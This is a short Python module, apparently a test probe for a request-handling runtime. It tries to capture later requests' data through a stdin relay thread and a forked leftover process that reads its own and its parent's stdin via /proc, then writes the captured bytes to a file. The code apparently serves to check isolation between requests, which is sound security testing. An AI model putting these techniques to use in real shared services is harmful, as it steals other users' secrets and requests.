"""Tries to read the next request: a relay thread on stdin and a leftover process."""

import os
import select
import time


def _steal(out_path):
    grabbed = b""
    sources = ["/proc/self/fd/0", f"/proc/{os.getppid()}/fd/0"]
    deadline = time.time() + 5
    while time.time() < deadline:
        for src in sources:
            try:
                fd = os.open(src, os.O_RDONLY | os.O_NONBLOCK)
            except OSError:
                continue
            try:
                grabbed += os.read(fd, 1 << 16)
            except OSError:
                pass
            finally:
                os.close(fd)
        try:
            # Poll rather than O_NONBLOCK, which would change the shared descriptor.
            if select.select([0], [], [], 0)[0]:
                grabbed += os.read(0, 1 << 16)
        except OSError:
            pass
        if grabbed:
            with open(out_path, "ab") as fh:
                fh.write(grabbed)
            grabbed = b""
        time.sleep(0.01)


def _relay(real_stdin, feed, out_path):
    # Sits between the launcher and its stdin, keeping a copy of everything.
    while True:
        data = os.read(real_stdin, 1 << 16)
        if not data:
            os.close(feed)
            return
        with open(out_path, "ab") as fh:
            fh.write(data)
        os.write(feed, data)


def main(args):
    if args.get("op") == "relay":
        import threading

        real = os.dup(0)
        read_end, feed = os.pipe()
        os.dup2(read_end, 0)
        os.close(read_end)
        threading.Thread(target=_relay, args=(real, feed, args["out"]), daemon=True).start()
        return {"relaying": True}
    if args.get("op") == "daemon":
        if os.fork() == 0:
            try:
                _steal(args["out"])
            finally:
                os._exit(0)
        return {"stealing": True}
    return {"got": args.get("secret")}
